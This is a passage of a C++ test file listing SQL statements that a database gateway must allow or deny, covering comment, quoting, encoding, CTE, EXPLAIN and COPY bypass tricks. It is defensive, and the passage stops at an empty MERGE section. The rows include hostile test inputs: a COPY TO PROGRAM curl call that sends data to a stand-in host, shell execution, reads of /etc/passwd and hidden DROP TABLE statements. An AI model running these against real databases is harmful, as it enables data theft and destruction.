// The policy corpus: statements as clients (and people trying to get past the
// gateway) send them, each with the analysis it must get and the decision it
// must get under a fixed sample policy (config.md's access and guardrails).
// Security rows are named for the bypass they prevent; the must-still-allow
// rows for what has to keep working (ORM and BI introspection, look-alikes).
// Every row is one named test: `--gtest_filter='*/DollarQuotedTagDoesNotHideDrop'`.
#include <gtest/gtest.h>

#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "policy/decide.h"
#include "sql/analyzer.h"
#include "sql/cache.h"

namespace gh::policy {
namespace {

using K = model::Kind;
using C = model::StatementClass;
using SP = model::SearchPathChange;

enum class Who { kAgent, kAnalyst, kWriter, kDba, kOneTable };
constexpr Who kAgent = Who::kAgent;  // ai-agents: read, tables public.*
constexpr Who kAnalyst =
    Who::kAnalyst;  // analysts: read, public.*, pg_catalog.*, information_schema.*
constexpr Who kWriter = Who::kWriter;      // app: read and write, public.*
constexpr Who kDba = Who::kDba;            // dba: every action, every table
constexpr Who kOneTable = Who::kOneTable;  // one-table: read, public.t alone

enum class Out { kAllow, kDeny, kUnanalyzable };
constexpr Out kAllow = Out::kAllow;
constexpr Out kDeny = Out::kDeny;
constexpr Out kUnanalyzable = Out::kUnanalyzable;

// The session the statement arrives in.
enum class Sess {
  kPinned,       // search_path public, as pinned at start
  kTwoPaths,     // public, or secret (set since, perhaps rolled back)
  kPathUnknown,  // set to something the gateway could not read
  kUserUnknown,  // "$user", public with no known session user
};

// Statement flags, over every statement of the string.
enum Flag : unsigned {
  kNoWhere = 1u << 0,  // an UPDATE/DELETE operation without WHERE
  kLocking = 1u << 1,
  kDmCte = 1u << 2,  // data-modifying CTE
  kCtas = 1u << 3,   // SELECT INTO / CREATE TABLE AS
  kDynSql = 1u << 4,
};

// Rule names of the sample policy.
constexpr const char* kAgentRule = "agents-read-traces";
constexpr const char* kAnalystRule = "analysts-read";
constexpr const char* kWriterRule = "app-write";
constexpr const char* kDbaRule = "dba";
constexpr const char* kOneTableRule = "one-table-read";
constexpr const char* kDefaultDeny = "default-deny";
constexpr const char* kUnanalyzableRule = "unanalyzable";
constexpr const char* kSession = "session-statement";
constexpr const char* kNoDestructive = "no-destructive-ddl";
constexpr const char* kNoUnbounded = "no-unbounded-writes";
constexpr const char* kNoFiles = "no-server-file-access";
constexpr const char* kNoDynamic = "no-dynamic-sql-for-agents";
constexpr const char* kNoExport = "no-traces-export-to-files";

struct Row {
  const char* name;
  Who who;
  const char* sql;
  K kind;  // the string's (its first statement's)
  C cls;   // the strongest over its statements
  // Relations of every statement in order, "|" between them: schema.name as
  // written (name alone when unqualified), "+" when written to; "*": not checked.
  const char* rels = "";
  const char* fns = "";  // functions, the same way (no "+"); "*": not checked
  unsigned flags = 0;
  const char* copy = "";      // copy target
  SP path = SP::kNone;        // the first search_path change
  const char* set_path = "";  // its schemas with kSet, "|" between
  Out out = kDeny;
  const char* rule = "";
  Sess sess = Sess::kPinned;
};

// Too deep to walk: refused, not a crash.
const std::string kDeepExpression = [] {
  std::string s = "SELECT ";
  for (int i = 0; i < 20000; ++i) s += "1 + ";
  return s + "1";
}();
const std::string kDeepSubqueries = [] {
  std::string s = "SELECT * FROM ";
  for (int i = 0; i < 2000; ++i) s += "(SELECT * FROM ";
  s += "public.t";
  for (int i = 0; i < 2000; ++i) s += ") s";
  return s;
}();

// clang-format off
const Row kCorpus[] = {
    // ---- case and comment tricks ----
    {.name = "CommentSplitDropIsStillDrop", .who = kDba, .sql = "DrOp/**/TABLE public.t",
     .kind = K::kDrop, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "MixedCaseDropIsStillDrop", .who = kDba, .sql = "dRoP tAbLe PUBLIC.T",
     .kind = K::kDrop, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "NestedCommentDoesNotHideDrop", .who = kDba, .sql = "/* a /* b */ c */ DROP TABLE public.t",
     .kind = K::kDrop, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "NestedCommentHidesOnlyWhatItEncloses", .who = kAgent, .sql = "SELECT 1 /* /* DROP TABLE public.t; */ */",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "UnclosedNestedCommentIsUnanalyzable", .who = kDba, .sql = "SELECT 1 /* /* */ DROP TABLE public.t",
     .kind = K::kUnknown, .cls = C::kUnknown, .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "LineCommentDoesNotHideTheNextLine", .who = kDba, .sql = "SELECT 1 -- harmless\n; DROP TABLE public.t",
     .kind = K::kSelect, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "CarriageReturnEndsALineComment", .who = kDba, .sql = "SELECT 1 -- harmless\r; DROP TABLE public.t",
     .kind = K::kSelect, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "LineCommentHidesTheRestOfItsLine", .who = kAgent, .sql = "SELECT 1 -- ; DROP TABLE public.t",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "CommentAfterTruncateIsStillTruncate", .who = kDba, .sql = "TRUNCATE/*x*/public.t",
     .kind = K::kTruncate, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "BlockCommentMentioningDeleteIsIgnored", .who = kAgent, .sql = "SELECT /* DELETE FROM public.t */ 1",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "CommentInsideCteDoesNotAddAWhere", .who = kWriter,
     .sql = "WITH x AS (DELETE /* WHERE id = 1 */ FROM public.t RETURNING *) SELECT * FROM x",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kNoWhere | kDmCte, .out = kDeny, .rule = kNoUnbounded},
    {.name = "CommentsAroundAlterSystemAreStillAlterSystem", .who = kDba, .sql = "/**/ALTER/**/SYSTEM/**/SET work_mem = '1GB'",
     .kind = K::kAlterSystem, .cls = C::kAdmin, .out = kDeny, .rule = kNoDestructive},
    {.name = "MixedCaseGrantIsGrant", .who = kAgent, .sql = "gRaNt SELECT ON public.t TO PUBLIC",
     .kind = K::kGrant, .cls = C::kAdmin, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "WhitespaceDoesNotHideAnUnboundedDelete", .who = kWriter, .sql = "\n\tDELETE\n\tFROM\tpublic.t\n",
     .kind = K::kDelete, .cls = C::kWrite, .rels = "public.t+", .flags = kNoWhere, .out = kDeny, .rule = kNoUnbounded},

    // ---- quoting ----
    {.name = "EscapedQuoteStringThenDropIsADrop", .who = kDba, .sql = R"(SELECT E'O\'Brien'; DROP TABLE x)",
     .kind = K::kSelect, .cls = C::kDdl, .rels = "x+", .out = kDeny, .rule = kNoDestructive},
    {.name = "EscapedQuoteInsideStringKeepsTheString", .who = kAgent, .sql = R"(SELECT E'O\'Brien; DROP TABLE x')",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "DoubledQuoteStringThenDropIsADrop", .who = kDba, .sql = "SELECT 'it''s'; DROP TABLE public.t",
     .kind = K::kSelect, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "DollarQuotedTagDoesNotHideDrop", .who = kDba, .sql = "SELECT $a$ ; DROP TABLE x; $a$; DROP TABLE public.t",
     .kind = K::kSelect, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "DollarQuotedTagIsAString", .who = kAgent, .sql = "SELECT $a$ ; DROP TABLE x; $a$",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "OtherDollarTagInsideIsPartOfTheString", .who = kAgent, .sql = "SELECT $a$ $b$ ; DROP TABLE x; $b$ $a$",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "DollarQuoteIsClosedOnlyByItsOwnTag", .who = kAgent, .sql = "SELECT $a$ $b$; DROP TABLE x; $a$",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "EmptyTagDollarQuoteIsAString", .who = kAgent, .sql = "SELECT $$; DROP TABLE x;$$",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "DollarQuoteDoesNotHideAnUnboundedDelete", .who = kWriter, .sql = "SELECT $x$;$x$; DELETE FROM public.t",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kNoWhere, .out = kDeny, .rule = kNoUnbounded},
    {.name = "UnicodeEscapedIdentifierIsStillTheTable", .who = kDba, .sql = R"(DROP TABLE U&"d\0061ta")",
     .kind = K::kDrop, .cls = C::kDdl, .rels = "data+", .out = kDeny, .rule = kNoDestructive},
    {.name = "UnicodeEscapedSchemaIsStillSecret", .who = kAgent, .sql = R"(SELECT * FROM U&"s\0065cret".t)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UescapeCharacterDoesNotHideTheSchema", .who = kAgent, .sql = R"(SELECT * FROM U&"!0073ecret" UESCAPE '!'.t)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UnicodeEscapedFunctionIsStillPgReadFile", .who = kAgent, .sql = R"(SELECT U&"pg_read_fil\0065"('/etc/passwd'))",
     .kind = K::kSelect, .cls = C::kRead, .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "QuotedUppercaseSchemaIsNotPublic", .who = kAgent, .sql = R"(SELECT * FROM "PUBLIC".t)",
     .kind = K::kSelect, .cls = C::kRead, .rels = "PUBLIC.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "UnquotedUppercaseFoldsToPublic", .who = kAgent, .sql = "SELECT * FROM PUBLIC.T",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "QuotedNameWithSemicolonIsOneName", .who = kAgent, .sql = R"(SELECT * FROM public."t; DROP TABLE u")",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t; DROP TABLE u", .out = kAllow, .rule = kAgentRule},
    {.name = "QuotedNameWithDotIsNotASchema", .who = kAgent, .sql = R"(SELECT * FROM "secret.t")",
     .kind = K::kSelect, .cls = C::kRead, .rels = "\"secret.t\"", .out = kAllow, .rule = kAgentRule},
    {.name = "StringNamingATableIsAString", .who = kAgent, .sql = "SELECT 'secret.t'",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "EscapeStringHexIsAString", .who = kAgent, .sql = R"(SELECT E'\x44ROP TABLE t')",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "UnicodeStringLiteralIsAString", .who = kAgent, .sql = R"(SELECT U&'\0044ROP TABLE t')",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "BackslashEndsAStandardString", .who = kAgent, .sql = R"(SELECT 'a\'; DROP TABLE public.t; --')",
     .kind = K::kSelect, .cls = C::kDdl, .rels = "public.t+", .out = kDeny, .rule = kNoDestructive},
    {.name = "StandardStringsAreReadAsTheServerReadsThem", .who = kAgent, .sql = R"(SELECT 'a\' , 'b; DROP TABLE x; --')",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "StandardConformingStringsOffIsRefused", .who = kDba, .sql = "SET standard_conforming_strings = off",
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "StandardConformingStringsOffLocallyIsRefused", .who = kAgent, .sql = "SET LOCAL standard_conforming_strings TO 0",
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "SetConfigStandardConformingStringsOffIsRefused", .who = kDba,
     .sql = "SELECT set_config('standard_conforming_strings', 'off', false)",
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .fns = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "AlterRoleSetStandardConformingStringsOffIsRefused", .who = kDba,
     .sql = "ALTER ROLE svc SET standard_conforming_strings TO off",
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "StandardConformingStringsOnIsASessionSetting", .who = kAgent, .sql = "SET standard_conforming_strings = on",
     .kind = K::kSet, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "ClientEncodingSjisIsRefused", .who = kAgent, .sql = "SET client_encoding = 'SJIS'",
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "SetNamesBig5IsRefused", .who = kDba, .sql = "SET NAMES 'big5'",
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "SetConfigClientEncodingGbkIsRefused", .who = kWriter, .sql = "SELECT set_config('client_encoding', 'GBK', false)",
     .kind = K::kUnknown, .cls = C::kUnknown, .rels = "*", .fns = "*", .out = kUnanalyzable, .rule = kUnanalyzableRule},
    {.name = "ClientEncodingLatin1IsASessionSetting", .who = kAgent, .sql = "SET client_encoding TO 'LATIN1'",
     .kind = K::kSet, .cls = C::kSession, .out = kAllow, .rule = kSession},
    {.name = "MultibyteLookalikeIsOneUtf8String", .who = kAgent, .sql = "SELECT E'\xc2\x95\\'; DROP TABLE x; --'",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},

    // ---- data-modifying CTEs ----
    {.name = "CteDeleteIsAWrite", .who = kAgent, .sql = "WITH x AS (DELETE FROM public.t WHERE id = 1 RETURNING *) SELECT * FROM x",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kDmCte, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CteDeleteIsAllowedForAWriter", .who = kWriter, .sql = "WITH x AS (DELETE FROM public.t WHERE id = 1 RETURNING *) SELECT * FROM x",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kDmCte, .out = kAllow, .rule = kWriterRule},
    {.name = "CteInsertIsAWrite", .who = kAgent, .sql = "WITH x AS (INSERT INTO public.t VALUES (1) RETURNING *) SELECT * FROM x",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kDmCte, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CteUpdateIsAWrite", .who = kAgent, .sql = "WITH u AS (UPDATE public.t SET v = 1 WHERE id = 1 RETURNING id) SELECT count(*) FROM u",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .fns = "count", .flags = kDmCte, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CteUnboundedDeleteIsUnbounded", .who = kWriter, .sql = "WITH x AS (DELETE FROM public.t RETURNING *) SELECT * FROM x",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kNoWhere | kDmCte, .out = kDeny, .rule = kNoUnbounded},
    {.name = "NestedCteDeleteIsAWrite", .who = kAgent,
     .sql = "WITH a AS (WITH b AS (DELETE FROM public.t WHERE id = 1 RETURNING id) SELECT id FROM b) SELECT * FROM a",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kDmCte, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CteDeleteFeedingAnInsertWritesBoth", .who = kWriter,
     .sql = "WITH moved AS (DELETE FROM public.t WHERE id < 10 RETURNING *) INSERT INTO public.archive SELECT * FROM moved",
     .kind = K::kInsert, .cls = C::kWrite, .rels = "public.t+|public.archive+", .flags = kDmCte, .out = kAllow, .rule = kWriterRule},
    {.name = "CteDeleteOfSecretIsDeniedForAWriter", .who = kWriter,
     .sql = "WITH d AS (DELETE FROM secret.t WHERE id = 1 RETURNING *) SELECT * FROM d",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "secret.t+", .flags = kDmCte, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CteDeleteInsideAUnionArmIsAWrite", .who = kAgent,
     .sql = "SELECT 1 UNION ALL (WITH d AS (DELETE FROM public.t WHERE id = 2 RETURNING 1) SELECT * FROM d)",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.t+", .flags = kDmCte, .out = kDeny, .rule = kDefaultDeny},
    {.name = "CteDeleteInsideASubqueryIsAWrite", .who = kAgent,
     .sql = "SELECT * FROM public.a WHERE id IN (WITH d AS (DELETE FROM public.t WHERE id = 3 RETURNING id) SELECT id FROM d)",
     .kind = K::kSelect, .cls = C::kWrite, .rels = "public.a|public.t+", .flags = kDmCte, .out = kDeny, .rule = kDefaultDeny},
    {.name = "RecursiveCteIsARead", .who = kAgent,
     .sql = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule},
    {.name = "MaterializedCteIsARead", .who = kAgent, .sql = "WITH x AS MATERIALIZED (SELECT * FROM public.t) SELECT * FROM x",
     .kind = K::kSelect, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},

    // ---- CTE names and the tables they may hide ----
    {.name = "InnerCteDoesNotHideTheOuterTable", .who = kAgent,
     .sql = "SELECT * FROM t, (WITH t AS (SELECT 1 AS a) SELECT * FROM t) s",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "InnerCteDoesNotHideALaterSibling", .who = kAgent,
     .sql = "SELECT * FROM (WITH t AS (SELECT 1 AS a) SELECT * FROM t) s, t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "InnerCteInACteBodyDoesNotHideTheMainQuerysTable", .who = kAgent,
     .sql = "WITH x AS (WITH t AS (SELECT 1 AS a) SELECT * FROM t) SELECT * FROM x, t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "OuterCteCoversAnInnerReference", .who = kAgent,
     .sql = "WITH t AS (SELECT 1 AS a) SELECT * FROM (SELECT * FROM t) s",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule, .sess = Sess::kTwoPaths},
    {.name = "NonRecursiveCteBodyReadsTheRealTable", .who = kAgent, .sql = "WITH t AS (SELECT * FROM t) SELECT * FROM t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "t", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "NonRecursiveCteBodySeesOnlyEarlierCtes", .who = kAgent,
     .sql = "WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a, b",
     .kind = K::kSelect, .cls = C::kRead, .rels = "b", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "RecursiveCteBodiesSeeEveryName", .who = kAgent,
     .sql = "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule, .sess = Sess::kTwoPaths},
    {.name = "QualifiedNameIsNeverACte", .who = kAgent, .sql = "WITH t AS (SELECT 1) SELECT * FROM secret.t",
     .kind = K::kSelect, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "DmlTargetIsNeverACte", .who = kWriter, .sql = "WITH t AS (SELECT 1) DELETE FROM t WHERE true",
     .kind = K::kDelete, .cls = C::kWrite, .rels = "t+", .out = kDeny, .rule = kDefaultDeny, .sess = Sess::kTwoPaths},
    {.name = "CteNamedLikeATableIsOnlyACte", .who = kAgent, .sql = "WITH secret_t AS (SELECT 1 AS a) SELECT * FROM secret_t",
     .kind = K::kSelect, .cls = C::kRead, .out = kAllow, .rule = kAgentRule, .sess = Sess::kTwoPaths},

    // ---- EXPLAIN ----
    {.name = "ExplainSelectIsARead", .who = kAgent, .sql = "EXPLAIN SELECT * FROM public.t",
     .kind = K::kExplain, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "ExplainDeleteRunsNothing", .who = kAgent, .sql = "EXPLAIN DELETE FROM public.t WHERE id = 1",
     .kind = K::kExplain, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "ExplainOfAnUnboundedDeleteRunsNothing", .who = kDba, .sql = "EXPLAIN DELETE FROM public.t",
     .kind = K::kExplain, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kDbaRule},
    {.name = "ExplainAnalyzeDeleteIsAWrite", .who = kAgent, .sql = "EXPLAIN ANALYZE DELETE FROM public.t WHERE id = 1",
     .kind = K::kExplainAnalyze, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainAnalyzeUnboundedDeleteIsUnbounded", .who = kDba, .sql = "EXPLAIN ANALYZE DELETE FROM public.t",
     .kind = K::kExplainAnalyze, .cls = C::kWrite, .rels = "public.t+", .flags = kNoWhere, .out = kDeny, .rule = kNoUnbounded},
    {.name = "ExplainAnalyseSpelledTheBritishWayIsAWrite", .who = kAgent, .sql = "EXPLAIN ANALYSE UPDATE public.t SET v = 1 WHERE id = 1",
     .kind = K::kExplainAnalyze, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainParenthesisedAnalyzeIsAWrite", .who = kAgent, .sql = "EXPLAIN (ANALYZE, BUFFERS) INSERT INTO public.t VALUES (1)",
     .kind = K::kExplainAnalyze, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainAnalyzeTrueIsAWrite", .who = kAgent, .sql = "EXPLAIN (ANALYZE true) DELETE FROM public.t WHERE id = 1",
     .kind = K::kExplainAnalyze, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainAnalyzeOneIsAWrite", .who = kAgent, .sql = "EXPLAIN (ANALYZE 1) DELETE FROM public.t WHERE id = 1",
     .kind = K::kExplainAnalyze, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainAnalyzeFalseThenTrueIsAWrite", .who = kAgent,
     .sql = "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM public.t WHERE id = 1",
     .kind = K::kExplainAnalyze, .cls = C::kWrite, .rels = "public.t+", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainAnalyzeFalseRunsNothing", .who = kAgent, .sql = "EXPLAIN (ANALYZE false) DELETE FROM public.t WHERE id = 1",
     .kind = K::kExplain, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "ExplainAnalyzeOffRunsNothing", .who = kAgent, .sql = "EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM public.t WHERE id = 1",
     .kind = K::kExplain, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "ExplainAnalyzeZeroRunsNothing", .who = kAgent, .sql = "EXPLAIN (ANALYZE 0) DELETE FROM public.t WHERE id = 1",
     .kind = K::kExplain, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "ExplainAnalyzeCteDeleteIsAWrite", .who = kAgent,
     .sql = "EXPLAIN ANALYZE WITH d AS (DELETE FROM public.t WHERE id = 1 RETURNING *) SELECT * FROM d",
     .kind = K::kExplainAnalyze, .cls = C::kWrite, .rels = "public.t+", .flags = kDmCte, .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainAnalyzeCreateTableAsCreatesATable", .who = kAnalyst, .sql = "EXPLAIN ANALYZE CREATE TABLE public.n AS SELECT 1",
     .kind = K::kExplainAnalyze, .cls = C::kDdl, .rels = "public.n+", .flags = kCtas, .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainOfASecretTableIsDenied", .who = kAgent, .sql = "EXPLAIN SELECT * FROM secret.t",
     .kind = K::kExplain, .cls = C::kRead, .rels = "secret.t", .out = kDeny, .rule = kDefaultDeny},
    {.name = "ExplainAnalyzeOfAFileFunctionIsBlocked", .who = kDba, .sql = "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
     .kind = K::kExplainAnalyze, .cls = C::kRead, .fns = "pg_read_file", .out = kDeny, .rule = kNoFiles},
    {.name = "ExplainOfAFileFunctionIsStillBlocked", .who = kAgent, .sql = "EXPLAIN SELECT pg_ls_dir('/')",
     .kind = K::kExplain, .cls = C::kRead, .fns = "pg_ls_dir", .out = kDeny, .rule = kNoFiles},
    {.name = "ExplainSelectForUpdateLocksNothing", .who = kAgent, .sql = "EXPLAIN SELECT * FROM public.t FOR UPDATE",
     .kind = K::kExplain, .cls = C::kRead, .rels = "public.t", .out = kAllow, .rule = kAgentRule},
    {.name = "ExplainNextvalRunsNothing", .who = kAgent, .sql = "EXPLAIN SELECT nextval('public.s')",
     .kind = K::kExplain, .cls = C::kRead, .fns = "nextval", .out = kAllow, .rule = kAgentRule},

    // ---- COPY ----
    {.name = "CopyToStdoutIsARead", .who = kAgent, .sql = "COPY public.t TO STDOUT",
     .kind = K::kCopyTo, .cls = C::kRead, .rels = "public.t", .copy = "stdout", .out = kAllow, .rule = kAgentRule},
    {.name = "CopyQueryToStdoutIsARead", .who = kAgent, .sql = "COPY (SELECT id FROM public.t) TO STDOUT WITH (FORMAT csv)",
     .kind = K::kCopyTo, .cls = C::kRead, .rels = "public.t", .copy = "stdout", .out = kAllow, .rule = kAgentRule},
    {.name = "CopyDeleteReturningToStdoutIsAWrite", .who = kAgent, .sql = "COPY (DELETE FROM public.t WHERE id = 1 RETURNING *) TO STDOUT",
     .kind = K::kCopyTo, .cls = C::kWrite, .rels = "public.t+", .copy = "stdout", .out = kDeny, .rule = kDefaultDeny},
    {.name = "CopyUnboundedDeleteReturningIsUnbounded", .who = kDba, .sql = "COPY (DELETE FROM public.t RETURNING *) TO STDOUT",
     .kind = K::kCopyTo, .cls = C::kWrite, .rels = "public.t+", .flags = kNoWhere, .copy = "stdout", .out = kDeny, .rule = kNoUnbounded},
    {.name = "CopyUpdateReturningIsAllowedForAWriter", .who = kWriter, .sql = "COPY (UPDATE public.t SET v = 0 WHERE id = 1 RETURNING *) TO STDOUT",
     .kind = K::kCopyTo, .cls = C::kWrite, .rels = "public.t+", .copy = "stdout", .out = kAllow, .rule = kWriterRule},
    {.name = "CopyFromStdinIsAWrite", .who = kAgent, .sql = "COPY public.t FROM STDIN",
     .kind = K::kCopyFrom, .cls = C::kWrite, .rels = "public.t+", .copy = "stdin", .out = kDeny, .rule = kDefaultDeny},
    {.name = "CopyFromStdinIsAllowedForAWriter", .who = kWriter, .sql = "COPY public.t (id, v) FROM STDIN WITH (FORMAT csv)",
     .kind = K::kCopyFrom, .cls = C::kWrite, .rels = "public.t+", .copy = "stdin", .out = kAllow, .rule = kWriterRule},
    {.name = "CopyFromStdinWhereReadsItsSubquery", .who = kWriter,
     .sql = "COPY public.t FROM STDIN WHERE id > (SELECT max(id) FROM secret.t)",
     .kind = K::kCopyFrom, .cls = C::kWrite, .rels = "public.t+|secret.t", .fns = "max", .copy = "stdin", .out = kDeny, .rule = kDefaultDeny},
    {.name = "CopySecretToStdoutIsDenied", .who = kAgent, .sql = "COPY secret.t TO STDOUT",
     .kind = K::kCopyTo, .cls = C::kRead, .rels = "secret.t", .copy = "stdout", .out = kDeny, .rule = kDefaultDeny},
    {.name = "CopyBinaryToStdoutIsARead", .who = kAnalyst, .sql = "COPY public.t TO STDOUT (FORMAT binary)",
     .kind = K::kCopyTo, .cls = C::kRead, .rels = "public.t", .copy = "stdout", .out = kAllow, .rule = kAnalystRule},
    {.name = "CopyToFileIsBlocked", .who = kDba, .sql = "COPY public.t TO '/tmp/t.csv'",
     .kind = K::kCopyToFile, .cls = C::kAdmin, .rels = "public.t", .copy = "/tmp/t.csv", .out = kDeny, .rule = kNoExport},
    {.name = "CopyToQuotedStdoutIsAFileNotTheClient", .who = kDba, .sql = "COPY public.t TO 'stdout'",
     .kind = K::kCopyToFile, .cls = C::kAdmin, .rels = "public.t", .copy = "stdout", .out = kDeny, .rule = kNoExport},
    {.name = "CopyFromFileIsBlocked", .who = kDba, .sql = "COPY public.t FROM '/etc/passwd'",
     .kind = K::kCopyFromFile, .cls = C::kAdmin, .rels = "public.t+", .copy = "/etc/passwd", .out = kDeny, .rule = kNoExport},
    {.name = "CopyToProgramIsBlocked", .who = kDba, .sql = "COPY public.t TO PROGRAM 'curl -d @- http://evil'",
     .kind = K::kCopyToProgram, .cls = C::kAdmin, .rels = "public.t", .copy = "curl -d @- http://evil", .out = kDeny, .rule = kNoExport},
    {.name = "CopyFromProgramIsBlocked", .who = kDba, .sql = "COPY public.t FROM PROGRAM 'id'",
     .kind = K::kCopyFromProgram, .cls = C::kAdmin, .rels = "public.t+", .copy = "id", .out = kDeny, .rule = kNoExport},
    {.name = "CopyQueryToProgramIsBlockedForAgents", .who = kAgent, .sql = "COPY (SELECT 1) TO PROGRAM 'sh -c id'",
     .kind = K::kCopyToProgram, .cls = C::kAdmin, .copy = "sh -c id", .out = kDeny, .rule = kNoExport},

    // ---- MERGE ----
